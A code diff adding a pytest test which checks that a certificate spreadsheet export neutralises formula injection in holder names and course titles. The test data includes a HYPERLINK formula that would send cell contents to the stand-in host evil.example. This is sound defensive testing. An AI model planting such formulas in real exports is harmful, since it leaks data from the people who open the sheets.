@@ -67,3 +67,19 @@ def test_anonymous_users_log_in(client, issuing_body):
 def test_an_unknown_format_is_404(client, coordinator, issuing_body):
     client.force_login(coordinator)
     assert client.get(_url(issuing_body, "doc")).status_code == 404
+
+
+def test_names_and_titles_that_look_like_formulas_stay_text(
+    client, certificate, coordinator, issuing_body
+):
+    from training.models import Certificate
+
+    Certificate.objects.filter(pk=certificate.pk).update(
+        holder_name='=HYPERLINK("http://evil.example/?"&A1,"Xem")', course_title="@SUM(1+1)"
+    )
+    client.force_login(coordinator)
+    response = client.get(_url(issuing_body, "xlsx"))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    row = [cell for cell in list(sheet.iter_rows(min_row=4))[0]]
+    assert row[1].data_type == "s" and row[1].value.startswith("'=")
+    assert row[3].data_type == "s" and row[3].value == "'@SUM(1+1)"
